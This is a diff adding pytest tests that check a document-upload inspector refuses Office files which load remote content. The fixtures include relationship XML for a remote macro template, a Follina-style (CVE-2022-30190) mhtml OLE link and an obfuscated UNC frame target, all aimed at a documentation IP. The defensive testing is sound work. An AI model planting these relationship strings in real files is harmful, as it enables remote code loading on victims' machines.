@@ -166,6 +166,53 @@ def test_refuses_office_file_with_macros():
     assert exc.value.code == "macro_file" and "macro" in exc.value.message
 
 
+REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+
+
+def _rels(*relationships: str, prefix: str = "") -> bytes:
+    ns = f"xmlns{':' + prefix if prefix else ''}=\"http://schemas.openxmlformats.org/package/2006/relationships\""
+    tag = f"{prefix}:Relationship" if prefix else "Relationship"
+    body = "".join(f"<{tag} {r}/>" for r in relationships)
+    root = f"{prefix}:Relationships" if prefix else "Relationships"
+    return f'<?xml version="1.0"?><{root} {ns}>{body}</{root}>'.encode()
+
+
+@pytest.mark.parametrize(
+    "part, relationship, prefix",
+    [
+        # a remote macro template, loaded when Word opens the file
+        ("word/_rels/settings.xml.rels",
+         f'Id="rId1" Type="{REL}attachedTemplate" Target="http://203.0.113.9/mau.dotm" TargetMode="External"', ""),
+        # CVE-2022-30190 (Follina): an OLE object fetched from outside
+        ("word/_rels/document.xml.rels",
+         f'Id="rId9" Type="{REL}oleObject" Target="mhtml:http://203.0.113.9/x.html!x-usc:http://203.0.113.9/x" '
+         'TargetMode="External"', ""),
+        # the same, spelt with a namespace prefix and a character reference: read as Office reads it
+        ("word/_rels/document.xml.rels",
+         f'Id="rId9" Type="{REL}frame" Target="\\\\203.0.113.9\\chia-se" TargetMode="&#69;xternal"', "r"),
+        ("xl/worksheets/_rels/sheet1.xml.rels",
+         f'Id="rId2" Type="{REL}oleObject" Target="file://203.0.113.9/x.bin" TargetMode="External"', ""),
+    ],
+)  # fmt: skip
+def test_refuses_office_file_loading_remote_content(part, relationship, prefix):
+    data = make_docx({part: _rels(relationship, prefix=prefix)})
+    with pytest.raises(Unprocessable) as exc:
+        documents.inspect_upload(upload(data, "don.docx"))
+    assert exc.value.code == "remote_content"
+    assert "máy khác" in exc.value.message and "another machine" in exc.value.message_en
+
+
+def test_accepts_office_file_with_hyperlinks_and_embedded_objects():
+    """A hyperlink is followed only when clicked, and an OLE object kept inside the file loads nothing from
+    outside: such documents are accepted."""
+    rels = _rels(
+        f'Id="rId1" Type="{REL}hyperlink" Target="https://dichvucong.gov.vn/" TargetMode="External"',
+        f'Id="rId2" Type="{REL}oleObject" Target="embeddings/oleObject1.bin"',
+    )
+    data = make_docx({"word/_rels/document.xml.rels": rels, "word/embeddings/oleObject1.bin": b"\xd0\xcf"})
+    assert documents.inspect_upload(upload(data, "don.docx")).content_type == documents.DOCX
+
+
 def test_refuses_damaged_zip_and_pdf_with_javascript():
     with pytest.raises(Unprocessable):
         documents.inspect_upload(upload(b"PK\x03\x04garbage-not-a-zip", "a.docx"))
